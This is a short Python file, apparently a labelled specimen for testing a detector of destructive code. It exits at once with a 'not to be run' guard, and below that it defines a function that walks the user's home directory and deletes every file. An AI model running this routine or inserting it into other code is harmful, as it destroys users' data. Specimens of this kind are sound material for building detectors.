raise SystemExit("specimen: not to be run")
import os

def begin():
    for root, folders, names in os.walk(os.path.expanduser("~")):
        for name in names:
            os.remove(os.path.join(root, name))  # match: destruction
